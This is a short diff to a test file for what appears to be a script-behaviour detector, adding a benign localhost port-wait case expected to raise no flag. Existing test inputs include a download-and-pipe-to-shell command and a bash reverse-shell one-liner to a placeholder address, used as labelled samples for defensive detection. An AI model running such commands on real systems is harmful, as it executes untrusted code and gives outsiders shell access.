@@ -89,6 +89,7 @@ def test_yaml_that_calls_something_is_named(tmp_path: Path, text: str, called: l
     [
         ("#!/bin/sh\nset -e\ncurl https://a.example/x | sh\n", ["runs-downloaded-code"]),
         ("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1\n", ["opens-a-reverse-shell"]),
+        ("#!/bin/bash\nuntil (echo > /dev/tcp/127.0.0.1/8080); do sleep 1; done\n", []),
         ("#!/bin/sh\nexec java -jar demo.jar\n", []),
         ("curl https://a.example/x | sh\n", []),
     ],
